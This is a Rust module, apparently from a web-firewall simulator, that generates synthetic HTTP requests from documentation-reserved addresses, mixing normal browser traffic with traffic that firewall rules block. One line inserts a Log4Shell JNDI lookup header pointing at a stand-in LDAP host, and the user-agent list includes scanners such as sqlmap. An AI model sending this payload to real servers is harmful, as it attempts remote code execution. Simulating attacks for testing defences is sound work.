//! What the requests look like that a web ACL sees.
//!
//! Their addresses are from the blocks that are kept for documentation (RFC 5737, RFC 3849): nobody's.

use super::{RuleKind, WebAcl};
use crate::simulator::random::{Dice, mix};

/// Where requests come from and what they ask for.
#[derive(Debug, Clone, Default)]
pub struct Origins {
    /// The most usual first.
    pub countries: Vec<String>,
    pub addresses: Vec<String>,
    /// With the name of the group's rule that matches each, where there is one.
    pub uris: Vec<(String, Option<&'static str>)>,
    pub agents: Vec<String>,
    pub host: String,
}

/// A web request.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct WebRequest {
    pub address: String,
    pub country: String,
    pub uri: String,
    pub method: &'static str,
    pub version: &'static str,
    pub headers: Vec<(&'static str, String)>,
    /// The rule within the group that matched it.
    pub inner_rule: Option<&'static str>,
}

const BROWSERS: [&str; 4] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Safari/605.1.15",
    "Mozilla/5.0 (Linux; Android 15; SO-51E) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Mobile Safari/537.36",
];
const TOOLS: [&str; 5] = [
    "sqlmap/1.9.8#stable (https://sqlmap.org)",
    "python-requests/2.32.5",
    "Go-http-client/1.1",
    "curl/8.14.1",
    "zgrab/0.x",
];
const PAGES: [&str; 10] = [
    "/",
    "/products",
    "/products/1042",
    "/products/2210?color=%E7%B4%BA",
    "/cart",
    "/login",
    "/api/v1/products?page=2",
    "/api/v1/session",
    "/search?q=%E7%94%9F%E5%91%BD%E4%BF%9D%E9%99%BA",
    "/claims/status",
];
/// Where nuisances usually come from, and where those do that a limit stops.
const ELSEWHERE: [&str; 7] = ["US", "CN", "RU", "NL", "DE", "VN", "BR"];

impl Origins {
    /// What those ask who are meant to.
    pub fn ordinary(name: &str, hash: u64) -> Self {
        Self {
            countries: texts(&["JP", "JP", "JP", "JP", "JP", "JP", "JP", "JP", "US", "SG"]),
            addresses: addresses(hash, 120),
            uris: PAGES.map(|page| (page.to_owned(), None)).to_vec(),
            agents: texts(&BROWSERS),
            host: format!("{}.example.jp", name.trim_end_matches("-waf").trim_end_matches("-cdn")),
        }
    }

    /// What those ask whom a rule usually stops.
    pub fn usual(kind: &RuleKind, hash: u64) -> Self {
        let elsewhere = texts(&ELSEWHERE);
        let plain = |pages: &[&str]| pages.iter().map(|page| ((*page).to_owned(), None)).collect();
        let (countries, uris, agents) = match kind {
            RuleKind::Managed { group, .. } => {
                let of = |(rule, paths): &(&'static str, &'static [&'static str])| {
                    paths.iter().map(|path| ((*path).to_owned(), Some(*rule))).collect::<Vec<_>>()
                };
                (elsewhere, group.rules.iter().flat_map(of).collect(), texts(&TOOLS))
            }
            RuleKind::Rate { path, .. } => {
                let page = path.clone().unwrap_or_else(|| "/api/v1/products".to_owned());
                (texts(&["JP", "US", "SG"]), vec![(page, None)], texts(&TOOLS))
            }
            RuleKind::Geo(countries) => (countries.clone(), plain(&PAGES), texts(&BROWSERS)),
            RuleKind::Outside(countries) => {
                let others = elsewhere.into_iter().filter(|code| !countries.contains(code)).collect();
                (others, plain(&PAGES), texts(&BROWSERS))
            }
            RuleKind::IpSet(_) => (elsewhere, plain(&["/", "/login"]), texts(&TOOLS)),
            RuleKind::Uri(path) => (elsewhere, vec![(path.clone(), None)], texts(&TOOLS)),
        };
        Self { countries, addresses: addresses(hash, 24), uris, agents, host: String::new() }
    }

    /// Fills in what an attack does not say of itself: it looks as what the rule usually stops.
    #[must_use]
    pub fn or(self, usual: &Self, hash: u64) -> Self {
        let or = |own: Vec<String>, usual: &Vec<String>| if own.is_empty() { usual.clone() } else { own };
        Self {
            countries: or(self.countries, &usual.countries),
            addresses: if self.addresses.is_empty() { addresses(hash, 6) } else { self.addresses },
            uris: if self.uris.is_empty() { usual.uris.clone() } else { self.uris },
            agents: or(self.agents, &usual.agents),
            host: self.host,
        }
    }

    /// Draws one request.
    pub fn draw(&self, acl: &WebAcl, hash: u64) -> WebRequest {
        let mut dice = Dice::new(hash, &["request"]);
        let place = mostly_first(self.addresses.len(), &mut dice);
        let address = self.addresses.get(place).cloned().unwrap_or_default();
        // An address does not move from country to country.
        let country = mostly_first(self.countries.len(), &mut Dice::new(mix(hash_of(&address)), &["country"]));
        let (uri, inner_rule) =
            self.uris.get(mostly_first(self.uris.len(), &mut dice)).cloned().unwrap_or_else(|| ("/".to_owned(), None));
        let agent = any(&self.agents, &mut dice).cloned();
        let posts = inner_rule.is_some_and(|rule| rule.ends_with("_BODY")) || uri.contains("/login");
        let method = match inner_rule {
            Some("PROPFIND_METHOD") => "PROPFIND",
            _ if posts => "POST",
            _ => "GET",
        };
        let mut headers = vec![(
            "Host",
            if inner_rule == Some("Host_localhost_HEADER") { "localhost".to_owned() } else { acl.origins.host.clone() },
        )];
        if inner_rule != Some("NoUserAgent_HEADER") {
            headers.extend(agent.map(|agent| ("User-Agent", agent)));
        }
        headers.push(("Accept", "*/*".to_owned()));
        if inner_rule == Some("Log4JRCE_HEADER") {
            headers.push(("X-Api-Version", "${jndi:ldap://203.0.113.66:1389/a}".to_owned()));
        }
        headers.push(("X-Amzn-Trace-Id", format!("Root=1-{}-{}", dice.hex(8), dice.hex(24))));
        WebRequest {
            address,
            country: self.countries.get(country).cloned().unwrap_or_default(),
            uri,
            method,
            version: "HTTP/2.0",
            headers,
            inner_rule,
        }
    }
}

/// Draws a place, the first ones more often.
fn mostly_first(length: usize, dice: &mut Dice) -> usize {
    let most = i64::try_from(length).unwrap_or(1).saturating_sub(1).max(0);
    let (one, other) = (dice.between(0, most), dice.between(0, most));
    usize::try_from(one.min(other)).unwrap_or(0)
}

fn any<'a, T>(items: &'a [T], dice: &mut Dice) -> Option<&'a T> {
    let most = i64::try_from(items.len()).unwrap_or(1).saturating_sub(1).max(0);
    items.get(usize::try_from(dice.between(0, most)).unwrap_or(0))
}

fn hash_of(text: &str) -> u64 {
    crate::simulator::random::stable_hash(0, &[text])
}

fn texts(words: &[&str]) -> Vec<String> {
    words.iter().map(|word| (*word).to_owned()).collect()
}

/// Draws addresses; about one in sixteen is of IP version 6.
fn addresses(hash: u64, count: usize) -> Vec<String> {
    let mut dice = Dice::new(hash, &["addresses"]);
    let mut drawn: Vec<String> = Vec::with_capacity(count);
    for _ in 0..count {
        let address = match dice.between(0, 15) {
            0 => format!("2001:db8:{:x}::{:x}", dice.between(1, 0xffff), dice.between(1, 0xffff)),
            n => {
                let block = any(&["198.51.100", "203.0.113", "192.0.2"], &mut Dice::new(hash, &[&n.to_string()]));
                format!("{}.{}", block.unwrap_or(&"192.0.2"), dice.between(1, 254))
            }
        };
        if !drawn.contains(&address) {
            drawn.push(address);
        }
    }
    drawn
}
